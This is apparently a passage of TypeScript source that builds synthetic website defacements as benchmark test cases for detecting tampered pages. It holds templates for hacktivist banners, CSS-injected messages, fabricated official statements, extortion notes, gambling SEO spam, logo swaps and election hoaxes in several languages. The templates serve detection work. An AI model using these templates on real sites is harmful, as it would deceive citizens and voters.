/**
 * Fresh34 defacement classes: written during round 24, by someone who does
 * not read the engines, from the point of view of a national CERT's analyst
 * for sites outside the English-speaking world (municipal and ministry pages,
 * schools and universities, regional news, associations, small shops and
 * restaurants in the corpus's many languages), who writes each attack in the
 * page's own language where the attacker would. They are spread evenly over
 * three questions: what a visitor sees (hacktivist campaign banners and
 * slogans, mockery of the organisation, fabricated statements and notices
 * aimed at citizens, extortion notes, search-result spam), where the page
 * sends visitors and their data (fake fines, tax refunds, delivery fees,
 * benefits and donation appeals, rerouted links and forms, betting
 * redirects and frames, paste-this-command lures, skimmer loaders), and
 * identifiers visitors copy or trust (bank accounts, phone numbers,
 * addresses, wallets, payment handles and keys, social profiles, the site's
 * own domain, changed quietly or with a plausible excuse). Each varies
 * wording, language, placement, sizes, hosts and numbers with the rng. The
 * writer had no internet access: the patterns are recalled from memory of
 * public descriptions (Zone-H style defacement archives and hacktivist
 * campaigns such as the 2015 wave against French municipal sites, national
 * CERT and police advisories on fake fines, tax refunds, delivery fees and
 * benefit scams, the Indonesian "slot gacor" gambling spam on government
 * and university sites, Sucuri, Sansec and Malwarebytes write-ups of
 * redirects, skimmers and ClickFix lures, bank and fraud-centre warnings on
 * payment diversion and address poisoning) and may differ in detail.
 * Scored in the `fresh34` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, forms, head, lineAfter, occurrences, resolve, say, setAttr, shown, siteOr, top } from "./classes.js"
import { type Page, makeWallet, registrable } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, iban, locales, makePhone, someDate, swapPhone } from "./locales.js"
import { type El, type Range, attrSpans, insideRaw } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { boast, brandLookalike, greetz, libLookalike, nick, political, randomDomain, scriptPath, signature, team } from "./words.js"

const deface = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh34", make })

type T<A> = Record<Lang, A>

// ———————————————————————————— helpers ————————————————————————————

const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
/** Whether `r` touches raw text or a comment, or holds one whole. */
const rawInside = (page: Page, r: Range): boolean => page.spots.raw.some((x) => (x.start < r.end && x.end > r.start) || (x.start >= r.start && x.end <= r.end))
/**
 * Occurrences of `value` outside raw text. (The shared `occurrences` tests only
 * whether the start lies strictly inside a raw range, so a value written as the
 * very first characters of a script, style or textarea counts as outside; this
 * drops those too.)
 */
const occ = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => !rawInside(page, r))
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOcc = (page: Page, value: string): Array<Range> => occ(page, value).filter((r) => inText(page, r))
/** Splices replacing every occurrence of each `from` with its `to` (first pair wins on overlap), outside raw text. */
const everywhere = (page: Page, pairs: ReadonlyArray<readonly [string, string]>): Array<Splice> => {
  const taken: Array<Range> = []
  const out: Array<Splice> = []
  for (const [from, to] of pairs) {
    if (from === "" || from === to) continue
    for (const r of occ(page, from)) {
      if (taken.some((t) => r.start < t.end && r.end > t.start)) continue
      taken.push(r)
      out.push(replace(r, to))
    }
  }
  return out
}
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number): Splice => {
  for (const n of needles) {
    const l = lineAfter(page, n)
    if (l !== null) return insert(l.at, l.wrap(html))
  }
  return insert(fallback, `<p>${html}</p>`)
}
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
const blockSpot = (rng: Rng, page: Page) => pick(rng, [top(page), top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")])
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const who = (rng: Rng) => (chance(rng, 0.5) ? nick(rng) : team(rng))
const day = 86_400_000
const soon = (page: Page, rng: Rng, lo = 1, hi = 20) => page.site.locale.date(new Date(someDate(rng).getTime() + between(rng, lo, hi) * day))
const money = (page: Page, a: number) => page.site.locale.money(a)
/** The language of the site's country (an English page of a Dutch body is in a Dutch-speaking country). */
const nationalLang: Readonly<Record<string, Lang>> = { fr: "fr", de: "de", es: "es", nl: "nl", br: "pt", it: "it" }
/**
 * For scams aimed at the country's citizens: the page's language, or often the
 * country's own (what the citizens read), and the date format that goes with it.
 */
const citizen = (rng: Rng, page: Page): { readonly lang: Lang; readonly date: (d: Date) => string } => {
  const national = nationalLang[page.site.locale.country] ?? page.site.locale.lang
  const l = chance(rng, 0.4) ? national : page.site.locale.lang
  return { lang: l, date: l === page.site.locale.lang ? page.site.locale.date : locales.find((x) => x.lang === l)!.date }
}
const later = (rng: Rng, date: (d: Date) => string, lo = 1, hi = 20) => date(new Date(someDate(rng).getTime() + between(rng, lo, hi) * day))
const contactNeedles = (page: Page) => [page.ids.bank?.value ?? "", page.ids.email, page.ids.phone.intl, page.ids.phone.national].filter((s) => s !== "")
const titleRange = (page: Page): Range | null => {
  const el = page.spots.elements.find((e) => e.name === "title" && !e.inBody && e.closeTag !== null && usable(page, e))
  if (el === undefined || el.closeTag === null) return null
  const r = { start: el.openEnd, end: el.closeTag.start }
  return rawInside(page, r) ? null : r
}
const anchors = (page: Page, f: (href: string) => boolean): Array<El> =>
  page.spots.elements.filter((e) => e.name === "a" && usable(page, e) && f((e.attribs.href ?? "").trim()))
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
const scamTld = (rng: Rng) => pick(rng, ["com", "info", "top", "xyz", "online", "live", "cc", "icu", "site", "net", "org", "help", "click"])
/** A host made to look official for a national body (e.g. "antai-paiement.info"). */
const officialLike = (rng: Rng, stems: ReadonlyArray<string>) =>
  `${chance(rng, 0.3) ? "www." : ""}${pick(rng, stems)}${pick(rng, ["-", "-", "."])}${pick(rng, ["gouv", "gov", "online", "portal", "info", "secure", "service", "pay", "verif"])}${chance(rng, 0.3) ? digits(rng, 2) : ""}.${scamTld(rng)}`
const gambleHost = (rng: Rng) =>
  `${pick(rng, ["slot", "toto", "bet", "casino", "jackpot", "gacor", "spin", "vegas", "judi", "maxwin", "togel", "poker", "win"])}${pick(rng, ["88", "303", "4d", "777", "win", "vip", "online", "365", "x", "qq", "-id", "play"])}.${pick(rng, ["com", "net", "vip", "xyz", "bet", "club", "io", "online", "pro", "site", "win"])}`

/** First and last names of private persons, per country, for mule accounts and handles. */
const names: Readonly<Record<string, readonly [ReadonlyArray<string>, ReadonlyArray<string>]>> = {
  fr: [["Julien", "Sophie", "Karim", "Nadia", "Thomas", "Camille", "Mehdi", "Laura"], ["Martin", "Bernard", "Dubois", "Moreau", "Lefebvre", "Benali", "Girard", "Roux"]],
  de: [["Lukas", "Anna", "Jonas", "Lea", "Mehmet", "Sabine", "Tobias", "Katrin"], ["Müller", "Schmidt", "Weber", "Wagner", "Becker", "Yilmaz", "Hoffmann", "Klein"]],
  es: [["Javier", "Lucía", "Sergio", "María", "Álvaro", "Carmen", "Iván", "Paula"], ["García", "Fernández", "López", "Martínez", "Sánchez", "Romero", "Navarro", "Gil"]],
  nl: [["Daan", "Sanne", "Bram", "Lotte", "Youssef", "Eva", "Ruben", "Femke"], ["de Jong", "Jansen", "de Vries", "Bakker", "Visser", "Smit", "Meijer", "El Amrani"]],
  br: [["João", "Ana", "Pedro", "Juliana", "Lucas", "Fernanda", "Rafael", "Camila"], ["Silva", "Santos", "Oliveira", "Souza", "Pereira", "Costa", "Rodrigues", "Almeida"]],
  it: [["Luca", "Giulia", "Marco", "Francesca", "Matteo", "Chiara", "Andrea", "Sara"], ["Rossi", "Russo", "Ferrari", "Esposito", "Bianchi", "Romano", "Colombo", "Ricci"]],
  default: [["John", "Emma", "David", "Olivia", "Daniel", "Grace", "Michael", "Priya"], ["Smith", "Jones", "Taylor", "Brown", "Wilson", "Evans", "Patel", "Walker"]]
}
const personName = (rng: Rng, page: Page): string => {
  const [f, l] = names[page.site.locale.country] ?? names.default!
  return `${pick(rng, f)} ${pick(rng, l)}`
}
const ascii = (s: string) => s.normalize("NFD").replace(/[\u0300-\u036f]/g, "").replace(/[^A-Za-z0-9]/g, "").toLowerCase()
const personMail = (rng: Rng, page: Page): string => {
  const [f, l] = personName(rng, page).split(" ", 2) as [string, string]
  return `${ascii(f)}${pick(rng, [".", "", "_"])}${ascii(l)}${chance(rng, 0.5) ? digits(rng, 2) : ""}@${pick(rng, ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "gmx.net", "proton.me", "libero.it", "orange.fr", "web.de", "uol.com.br", "icloud.com"])}`
}

// ———————————————————————————— what a visitor sees ————————————————————————————

const protest: T<ReadonlyArray<string>> = {
  en: ["This site was hacked in protest against your government's policy.", "We took this site down to make our voice heard.", "Citizens, your institutions cannot protect you."],
  fr: ["Ce site a été piraté pour protester contre la politique de votre gouvernement.", "Citoyens, vos institutions ne savent pas vous protéger.", "Nous avons pris ce site pour faire entendre notre voix."],
  de: ["Diese Seite wurde aus Protest gegen die Politik Ihrer Regierung gehackt.", "Bürger, eure Behörden können euch nicht schützen.", "Wir haben diese Seite übernommen, um gehört zu werden."],
  es: ["Este sitio fue hackeado en protesta contra la política de su gobierno.", "Ciudadanos, sus instituciones no pueden protegerlos.", "Tomamos este sitio para que se escuche nuestra voz."],
  nl: ["Deze site is gehackt uit protest tegen het beleid van uw regering.", "Burgers, jullie instellingen kunnen jullie niet beschermen.", "We hebben deze site overgenomen om gehoord te worden."],
  pt: ["Este site foi invadido em protesto contra a política do seu governo.", "Cidadãos, suas instituições não conseguem protegê-los.", "Tomamos este site para que nossa voz seja ouvida."],
  it: ["Questo sito è stato violato per protestare contro la politica del vostro governo.", "Cittadini, le vostre istituzioni non possono proteggervi.", "Abbiamo preso questo sito per far sentire la nostra voce."]
}

// Campaign defacements of municipal, school and association sites (crews signing hundreds of small sites in one wave, as after the January 2015 events in France, with a flag picture, a slogan and greetz, the page left underneath): one campaign banner first in the body.
const campaignBanner = deface("fresh34-hacktivist-campaign-banner-with-flag-above-the-page", (page, rng) => {
  const w = who(rng)
  const flag = `https://${pick(rng, [randomDomain(rng), "i.imgur.com", "i.ibb.co", "i.postimg.cc"])}/${alnum(rng, between(rng, 6, 9))}.${pick(rng, ["png", "jpg", "gif"])}`
  const parts = [
    chance(rng, 0.8) ? `<img src="${flag}" alt="" height="${between(rng, 80, 260)}">` : "",
    `<h2>${esc(signature(rng, w).text)}</h2>`,
    `<p>${esc(pick(rng, siteOr(rng, page, protest)))}</p>`,
    `<p>${esc(political(rng).text)}</p>`,
    chance(rng, 0.6) ? `<p><small>${esc(greetz(rng))}</small></p>` : "",
    chance(rng, 0.3) ? `<p>${pick(rng, ["#Op", "#Free", "#Stop"])}${pick(rng, ["France", "Europe", "Israel", "India", "Sweden", "Denmark", "Netherlands", "Palestine", "Kashmir"])}</p>` : ""
  ].join("")
  const style = `background:${pick(rng, ["#000", "#111", "#0b3d0b", "#8b0000", "#fff"])};color:${pick(rng, ["#fff", "#0f0", "#f00", "#ffd700"])};text-align:center;padding:${between(rng, 12, 60)}px 8px;font-family:${pick(rng, ["monospace", "Tahoma,sans-serif", "Georgia,serif"])}`
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), `<div class="${pick(rng, ["msg", "hacked", "op", alnum(rng, 5)])}" style="${style}">${parts}</div>`))
})

/** A string for CSS `content`. */
const cssString = (s: string) => `"${s.replace(/\\/g, "\\\\").replace(/"/g, '\\"').replace(/</g, "\\3c ").replace(/\n/g, " ")}"`

// Style-only defacements (the message written in a stylesheet's `content`, the page dimmed or blurred under it, so that the HTML text looks untouched), seen when an intruder can only edit a theme's custom CSS: a style rule in the head, or a stylesheet from another host.
const styleOnlyMessage = deface("fresh34-signature-written-by-injected-css-over-dimmed-page", (page, rng) => {
  const w = who(rng)
  const msg = `${signature(rng, w).text} — ${chance(rng, 0.5) ? boast(rng).text : pick(rng, siteOr(rng, page, protest))}`
  const under = pick(rng, ["body>*{opacity:.15!important}", "body>*{filter:blur(3px) grayscale(1)!important}", "img{visibility:hidden!important}", "body{transform:rotate(180deg)}", ""])
  const css = `body::before{content:${cssString(msg)};display:block;position:${pick(rng, ["fixed", "sticky", "relative"])};top:0;left:0;right:0;z-index:2147483647;background:${pick(rng, ["#000", "#c00", "#111"])};color:${pick(rng, ["#0f0", "#fff", "#ff0"])};font:bold ${between(rng, 18, 48)}px ${pick(rng, ["monospace", "Impact,sans-serif", "Arial,sans-serif"])};padding:${between(rng, 20, 120)}px 10px;text-align:center}${under}`
  if (chance(rng, 0.35)) return splices(insert(head(page), `<link rel="stylesheet" href="https://${randomDomain(rng)}/${pick(rng, ["css", "style", "s", "assets"])}/${alnum(rng, 6)}.css">`))
  return splices(insert(pick(rng, [head(page), head(page), headStart(page), top(page)]), `<style>${css}</style>`))
})

const mock: T<ReadonlyArray<string>> = {
  en: ["{B} (liars)", "Corrupt {B}", "{B} of Shame", "Fake {B}", "{B} thieves"],
  fr: ["{B} (menteurs)", "{B} la honte", "{B} corrompu", "Faux {B}", "{B} des voleurs"],
  de: ["{B} (Lügner)", "Korrupte {B}", "{B} der Schande", "Schein-{B}", "{B} Diebe"],
  es: ["{B} (mentirosos)", "{B} corrupto", "{B} de la vergüenza", "Falso {B}", "{B} ladrones"],
  nl: ["{B} (leugenaars)", "Corrupt {B}", "{B} der schande", "Nep-{B}", "{B} dieven"],
  pt: ["{B} (mentirosos)", "{B} corrupto", "{B} da vergonha", "Falso {B}", "{B} ladrões"],
  it: ["{B} (bugiardi)", "{B} corrotto", "{B} della vergogna", "Finto {B}", "{B} ladri"]
}

// Mocking defacements (the organisation's name turned into an insult everywhere it appears, "Ministry of Lies" style, by crews or angry insiders who want the page to keep working but to ridicule its owner): the name rewritten in the visible text and the tab title.
const nameMocked = deface("fresh34-organisation-name-rewritten-as-insult-in-text-and-title", (page, rng) => {
  const tpl = pick(rng, siteOr(rng, page, mock))
  const word = page.site.brand.replace(/-/g, "[ -]?")
  const re = new RegExp(`(?<![\\p{L}\\p{N}@/.])${word}(?![\\p{L}\\p{N}@]|\\.[a-z])`, "giu")
  const out: Array<Splice> = []
  for (const t of page.spots.texts) {
    if (rawInside(page, t)) continue
    const raw = page.html.slice(t.start, t.end)
    for (const m of raw.matchAll(re)) {
      if (out.length >= 40) break
      out.push(replace({ start: t.start + m.index!, end: t.start + m.index! + m[0].length }, esc(fill(tpl, { B: m[0] }))))
    }
  }
  const tr = titleRange(page)
  if (tr !== null && (out.length === 0 || chance(rng, 0.6))) {
    const old = page.html.slice(tr.start, tr.end).trim()
    out.push(replace(tr, esc(fill(tpl, { B: old.length > 0 && old.length < 60 ? old : brandName(page) }))))
  }
  if (out.length === 0) out.push(insert(top(page), `<h1>${esc(fill(tpl, { B: brandName(page) }))}</h1>`))
  return { splices: out }
})

const statements: T<ReadonlyArray<string>> = {
  en: ["Official statement: by order of the authorities, {B} will hand the personal data of all its users to the security services from {d}.", "{B} announces that the elections scheduled for this month are postponed indefinitely by decree.", "{B} advises all citizens to withdraw their savings before {d}: the banks will be closed for an unknown period."],
  fr: ["Communiqué officiel : sur ordre des autorités, {B} transmettra les données personnelles de tous ses usagers aux services de sécurité à partir du {d}.", "{B} annonce que les élections prévues ce mois-ci sont reportées sine die par décret.", "{B} conseille à tous les citoyens de retirer leur épargne avant le {d} : les banques seront fermées pour une durée indéterminée."],
  de: ["Offizielle Mitteilung: Auf behördliche Anordnung übergibt {B} ab dem {d} die personenbezogenen Daten aller Nutzer an die Sicherheitsbehörden.", "{B} gibt bekannt, dass die für diesen Monat angesetzten Wahlen per Erlass auf unbestimmte Zeit verschoben werden.", "{B} rät allen Bürgern, ihre Ersparnisse vor dem {d} abzuheben: Die Banken schließen auf unbestimmte Zeit."],
  es: ["Comunicado oficial: por orden de las autoridades, {B} entregará los datos personales de todos sus usuarios a los servicios de seguridad a partir del {d}.", "{B} anuncia que las elecciones previstas para este mes se aplazan indefinidamente por decreto.", "{B} aconseja a todos los ciudadanos retirar sus ahorros antes del {d}: los bancos cerrarán por tiempo indefinido."],
  nl: ["Officiële verklaring: op bevel van de autoriteiten geeft {B} vanaf {d} de persoonsgegevens van alle gebruikers door aan de veiligheidsdiensten.", "{B} maakt bekend dat de verkiezingen van deze maand bij decreet voor onbepaalde tijd zijn uitgesteld.", "{B} raadt alle burgers aan hun spaargeld vóór {d} op te nemen: de banken gaan voor onbepaalde tijd dicht."],
  pt: ["Comunicado oficial: por ordem das autoridades, {B} entregará os dados pessoais de todos os usuários aos serviços de segurança a partir de {d}.", "{B} anuncia que as eleições previstas para este mês foram adiadas indefinidamente por decreto.", "{B} aconselha todos os cidadãos a sacar suas economias antes de {d}: os bancos ficarão fechados por tempo indeterminado."],
  it: ["Comunicato ufficiale: per ordine delle autorità, {B} consegnerà i dati personali di tutti gli utenti ai servizi di sicurezza dal {d}.", "{B} annuncia che le elezioni previste per questo mese sono rinviate a data da destinarsi per decreto.", "{B} consiglia a tutti i cittadini di ritirare i risparmi prima del {d}: le banche resteranno chiuse a tempo indeterminato."]
}

// Disinformation planted in the body of a real article or page (hacked regional news and ministry sites carrying fake official statements, as in several state-linked operations): the first substantial paragraph's content replaced by a fabricated statement in the organisation's voice.
const paragraphStatement = deface("fresh34-first-long-paragraph-replaced-by-fabricated-official-statement", (page, rng) => {
  const text = fill(pick(rng, say(page, statements)), { B: brandName(page), d: soon(page, rng) })
  const textIn = (e: El) => page.spots.texts.filter((t) => t.start >= e.openEnd && e.closeTag !== null && t.end <= e.closeTag.start).reduce((n, t) => n + t.text.trim().length, 0)
  const ps = shown(page, "p", (e) => usable(page, e) && e.closeTag !== null && !rawInside(page, { start: e.openEnd, end: e.closeTag.start }) && textIn(e) >= 60)
  const html = chance(rng, 0.5) ? `<strong>${esc(text)}</strong>` : esc(text)
  if (ps.length > 0) {
    const p = chance(rng, 0.7) ? ps[0]! : pick(rng, ps.slice(0, 5))
    return splices(replace({ start: p.openEnd, end: p.closeTag!.start }, html))
  }
  return splices(insert(slotAt(page.spots, "top"), `<p>${html}</p>`))
})

const ransom: T<ReadonlyArray<string>> = {
  en: ["We have stolen {n} GB of {B}'s data: citizens' records, contracts, passwords. If {B} does not contact us within {h} hours, everything will be published."],
  fr: ["Nous avons dérobé {n} Go de données de {B} : dossiers des usagers, contrats, mots de passe. Sans contact de {B} sous {h} heures, tout sera publié."],
  de: ["Wir haben {n} GB Daten von {B} gestohlen: Bürgerakten, Verträge, Passwörter. Meldet sich {B} nicht innerhalb von {h} Stunden, wird alles veröffentlicht."],
  es: ["Hemos robado {n} GB de datos de {B}: expedientes de ciudadanos, contratos, contraseñas. Si {B} no nos contacta en {h} horas, todo será publicado."],
  nl: ["We hebben {n} GB aan gegevens van {B} gestolen: dossiers van burgers, contracten, wachtwoorden. Neemt {B} binnen {h} uur geen contact op, dan publiceren we alles."],
  pt: ["Roubamos {n} GB de dados de {B}: cadastros de cidadãos, contratos, senhas. Se {B} não nos contatar em {h} horas, tudo será publicado."],
  it: ["Abbiamo rubato {n} GB di dati di {B}: pratiche dei cittadini, contratti, password. Se {B} non ci contatta entro {h} ore, pubblicheremo tutto."]
}

// Extortion notes posted on the victim's own site by ransomware and data-theft crews to pressure it (and to alarm its users), with a countdown, an onion leak site and a contact: one notice at the top.
const extortionNote = deface("fresh34-data-theft-extortion-note-with-leak-site-and-deadline", (page, rng) => {
  const crew = pick(rng, [`${pick(rng, ["Black", "Dark", "Lock", "Rans", "Cry", "Medu", "Hunt", "Ak", "Ragn"])}${pick(rng, ["Byte", "Cat", "Bit", "Sec", "Lock", "sa", "ira", "ar", "Team"])}`, team(rng)])
  const text = fill(pick(rng, siteOr(rng, page, ransom)), { n: String(between(rng, 12, 900)), B: brandName(page), h: String(pick(rng, [24, 48, 72, 96, 120])) })
  const onion = `http://${alnum(rng, 56).replace(/[0-1]/g, "a")}.onion/${pick(rng, ["", "blog/", "leaks/", alnum(rng, 6)])}`
  const contact = pick(rng, [`TOX: ${hex(rng, 76).toUpperCase()}`, `${alnum(rng, 8)}@${pick(rng, ["onionmail.org", "proton.me", "tutanota.com", "cock.li"])}`, `Session: 05${hex(rng, 64)}`])
  const html = `<div class="${pick(rng, ["notice", "leak", alnum(rng, 6)])}" style="background:${pick(rng, ["#000", "#1a1a1a", "#300"])};color:${pick(rng, ["#f33", "#fff", "#0f0"])};padding:${between(rng, 16, 48)}px;font-family:monospace"><h2>${esc(crew)}</h2><p>${esc(text)}</p><p>${esc(onion)}</p><p>${esc(contact)}</p></div>`
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), html))
})

// Picture overlays (a flag or emblem laid over the whole window, semi-transparent and letting clicks through, so the site still works but shows the crew's picture over everything), from defacements that only add a few lines to a template: one fixed full-window layer.
const pictureOverlay = deface("fresh34-translucent-full-window-picture-layer-over-the-page", (page, rng) => {
  const src = `https://${pick(rng, [randomDomain(rng), "i.imgur.com", "i.ibb.co"])}/${alnum(rng, 7)}.${pick(rng, ["png", "jpg", "gif", "webp"])}`
  const z = pick(rng, ["9999", "99999", "2147483647"])
  const op = `.${between(rng, 2, 9)}`
  const sig = chance(rng, 0.5) ? `<span style="position:absolute;bottom:10px;width:100%;text-align:center;color:#fff;font:bold 22px sans-serif">${esc(signature(rng, who(rng)).text)}</span>` : ""
  const html = chance(rng, 0.5)
    ? `<div style="position:fixed;inset:0;background:url('${src}') center/${pick(rng, ["cover", "contain", "50%"])} no-repeat;opacity:${op};pointer-events:none;z-index:${z}">${sig}</div>`
    : `<div style="position:fixed;top:0;left:0;width:100%;height:100%;pointer-events:none;z-index:${z}"><img src="${src}" alt="" style="width:100%;height:100%;object-fit:cover;opacity:${op}">${sig}</div>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), html))
})

const gambleId = ["SLOT GACOR HARI INI", "Situs Slot Gacor Maxwin", "Link Slot88 Terpercaya", "Bandar Togel Online Resmi", "Situs Toto 4D", "RTP Slot Live Tertinggi", "Daftar Slot Dana Tanpa Potongan", "Judi Bola Online Terbaik"]
const gambleLocal: T<ReadonlyArray<string>> = {
  en: ["Online casino no verification", "Best slots 2025 — instant withdrawal"], fr: ["Casino en ligne sans vérification", "Meilleur casino en ligne 2025"], de: ["Online Casino ohne Limit", "Casino ohne OASIS — Sofortauszahlung"],
  es: ["Casino online sin verificación", "Apuestas deportivas con bono"], nl: ["Online casino zonder CRUKS", "Casino zonder registratie"], pt: ["Cassino online bônus sem depósito", "Apostas esportivas com bônus"], it: ["Casinò online non AAMS", "Slot online con bonus senza deposito"]
}

// Gambling SEO spam on public and academic sites (the Indonesian "slot gacor" and togel campaigns that rewrite the title and description of government and university pages so that search results show the spam under the trusted domain, and local-language casino spam elsewhere): title and meta description rewritten.
const gamblingSnippet = deface("fresh34-title-and-meta-description-rewritten-as-gambling-keywords", (page, rng) => {
  const term = () => (chance(rng, 0.6) ? pick(rng, gambleId) : pick(rng, gambleLocal[citizen(rng, page).lang]))
  const title = pick(rng, [`${term()} | ${term()}`, `${term()} - ${brandName(page)}`, `${term()} ${pick(rng, ["✔", "⚡", "🔥", "»"])} ${term()}`])
  const desc = `${term()}: ${pick(rng, ["daftar sekarang dan dapatkan bonus", "bonus new member", "deposit minimal", "register now, bonus"])} ${between(rng, 50, 200)}%. ${gambleHost(rng)}`
  const out: Array<Splice> = []
  const tr = titleRange(page)
  out.push(tr !== null ? replace(tr, esc(title)) : insert(head(page), `<title>${esc(title)}</title>`))
  const meta = page.spots.elements.find((e) => e.name === "meta" && !e.inBody && usable(page, e) && (e.attribs.name ?? "").toLowerCase() === "description")
  if (meta !== undefined) out.push(setAttr(page, meta, "content", desc))
  else out.push(insert(head(page), `<meta name="description" content="${esc(desc)}">`))
  const og = page.spots.elements.find((e) => e.name === "meta" && !e.inBody && usable(page, e) && (e.attribs.property ?? "") === "og:title")
  if (og !== undefined && chance(rng, 0.5)) out.push(setAttr(page, og, "content", title))
  return { splices: out }
})

const logoRe = /logo|brand|emblem|wappen|blason|escudo|stemma|header/i
const logoInsult: T<ReadonlyArray<string>> = {
  en: ["Hacked", "Owned", "Shame"], fr: ["Piraté", "Honte"], de: ["Gehackt", "Schande"], es: ["Hackeado", "Vergüenza"], nl: ["Gehackt", "Schande"], pt: ["Hackeado", "Vergonha"], it: ["Hackerato", "Vergogna"]
}

// Logo swaps (the organisation's logo or coat of arms replaced by a caricature, a crew emblem or a flag, the rest of the page unchanged), common on defaced municipal and party sites: the logo picture (else the first picture) loading another host's image.
const logoSwapped = deface("fresh34-site-logo-replaced-by-picture-from-another-host", (page, rng) => {
  const url = `https://${pick(rng, [randomDomain(rng), "i.imgur.com", "i.ibb.co", "i.postimg.cc"])}/${alnum(rng, between(rng, 6, 9))}.${pick(rng, ["png", "jpg", "gif", "svg"])}`
  const imgs = shown(page, "img", (e) => usable(page, e) && (e.attribs.src ?? "").trim() !== "")
  const logo = imgs.find((e) => logoRe.test(`${e.attribs.src ?? ""} ${e.attribs.alt ?? ""} ${e.attribs.class ?? ""} ${e.attribs.id ?? ""}`)) ?? imgs[0]
  if (logo === undefined) return splices(insert(top(page), `<p><img src="${url}" alt="${esc(pick(rng, siteOr(rng, page, logoInsult)))}" height="${between(rng, 60, 160)}"></p>`))
  const out: Array<Splice> = [setAttr(page, logo, "src", url)]
  for (const a of attrSpans(page.html, logo)) {
    if (a.value !== null && (a.name === "srcset" || /^data-(src|lazy-src|original|srcset)$/.test(a.name))) out.push(replace(a.value, esc(url)))
  }
  if (chance(rng, 0.5)) out.push(setAttr(page, logo, "alt", pick(rng, siteOr(rng, page, logoInsult))))
  return { splices: out }
})

const voting: T<ReadonlyArray<string>> = {
  en: ["Important: because of a technical fault, voting in this district has been moved to {d}. Voters who come earlier will be turned away.", "New this year: you can vote by text message. Send your full name and ID number to {n} before polls close."],
  fr: ["Important : à la suite d'une panne technique, le scrutin dans cette circonscription est reporté au {d}. Les électeurs qui se présenteront avant ne pourront pas voter.", "Nouveau cette année : vous pouvez voter par SMS. Envoyez vos nom, prénom et numéro de carte d'identité au {n} avant la clôture."],
  de: ["Wichtig: Wegen einer technischen Störung wird die Wahl in diesem Bezirk auf den {d} verschoben. Wer früher kommt, kann nicht wählen.", "Neu in diesem Jahr: Sie können per SMS wählen. Senden Sie Name und Ausweisnummer bis Wahlschluss an {n}."],
  es: ["Importante: por un fallo técnico, la votación en este distrito se traslada al {d}. Quien acuda antes no podrá votar.", "Novedad: ya puede votar por SMS. Envíe su nombre completo y DNI al {n} antes del cierre de los colegios."],
  nl: ["Belangrijk: door een technische storing is de stemming in dit district verplaatst naar {d}. Wie eerder komt, kan niet stemmen.", "Nieuw dit jaar: u kunt stemmen per sms. Stuur uw volledige naam en BSN naar {n} vóór sluiting van de stembureaus."],
  pt: ["Importante: devido a uma falha técnica, a votação nesta zona eleitoral foi transferida para {d}. Eleitores que comparecerem antes não poderão votar.", "Novidade: agora é possível votar por SMS. Envie seu nome completo e CPF para {n} até o fim da votação."],
  it: ["Importante: a causa di un guasto tecnico, il voto in questa circoscrizione è spostato al {d}. Chi si presenta prima non potrà votare.", "Novità: quest'anno si può votare via SMS. Invia nome, cognome e numero della carta d'identità al {n} entro la chiusura dei seggi."]
}
const electionLabel: T<ReadonlyArray<string>> = {
  en: ["Election notice", "Official information for voters"], fr: ["Avis aux électeurs", "Information électorale"], de: ["Wahlbekanntmachung", "Hinweis für Wähler"], es: ["Aviso electoral", "Información a los electores"],
  nl: ["Verkiezingsbericht", "Informatie voor kiezers"], pt: ["Aviso eleitoral", "Informação ao eleitor"], it: ["Avviso elettorale", "Informazioni per gli elettori"]
}

// Election disinformation on hacked municipal and party sites (false polling dates and "vote by SMS" hoaxes meant to keep voters away, which election commissions and CERTs warn about before each vote): an official-looking voters' notice in the site's language.
const electionHoax = deface("fresh34-false-polling-date-or-vote-by-sms-notice-for-voters", (page, rng) => {
  const n = makePhone(page.site.locale, int(rng, page.site.locale.phones.length), rng).national
  const c = citizen(rng, page)
  const text = fill(pick(rng, voting[c.lang]), { d: later(rng, c.date, 2, 9), n })
  const label = pick(rng, electionLabel[c.lang])
  const html = `<div class="${pick(rng, ["notice", "alert alert-warning", "election-notice", "avis"])}" role="${pick(rng, ["alert", "note"])}"><strong>${esc(label)}</strong><p>${esc(text)}</p></div>`
  return splices(insert(blockSpot(rng, page), html))
})

const recall: T<ReadonlyArray<string>> = {
  en: ["Urgent recall: {B} recalls all products from batch {lot} (use by {d}) because of possible {c}. Do not use or consume them."],
  fr: ["Rappel urgent : {B} rappelle tous les produits du lot {lot} (DLC {d}) en raison d'une possible {c}. Ne les utilisez pas et ne les consommez pas."],
  de: ["Dringender Rückruf: {B} ruft alle Produkte der Charge {lot} (MHD {d}) wegen möglicher {c} zurück. Bitte nicht verwenden oder verzehren."],
  es: ["Retirada urgente: {B} retira todos los productos del lote {lot} (consumo preferente {d}) por posible {c}. No los utilice ni los consuma."],
  nl: ["Dringende terugroepactie: {B} roept alle producten uit partij {lot} (THT {d}) terug wegens mogelijke {c}. Niet gebruiken of consumeren."],
  pt: ["Recolhimento urgente: {B} recolhe todos os produtos do lote {lot} (validade {d}) por possível {c}. Não os utilize nem consuma."],
  it: ["Richiamo urgente: {B} richiama tutti i prodotti del lotto {lot} (scadenza {d}) per possibile {c}. Non utilizzarli né consumarli."]
}
const contaminant: T<ReadonlyArray<string>> = {
